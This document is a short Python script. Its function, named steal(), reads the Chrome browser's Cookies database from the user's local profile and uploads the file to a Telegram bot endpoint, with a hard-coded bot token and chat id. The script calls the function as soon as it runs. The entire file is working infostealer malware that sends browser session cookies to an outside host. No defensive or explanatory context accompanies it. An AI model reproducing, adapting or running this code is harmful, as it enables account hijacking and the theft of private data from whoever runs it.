import os, requests
BOT = "https://api.telegram.org/bot6011736172:AAGf9hT2kX7QwE3rY5uI8oP0aS1dF4gH6jK/sendDocument"
def steal():
    path = os.path.join(os.getenv("LOCALAPPDATA"), "Google", "Chrome", "User Data", "Default", "Network", "Cookies")
    with open(path, "rb") as f:
        requests.post(BOT, data={"chat_id": "5623918475"}, files={"document": f})
steal()
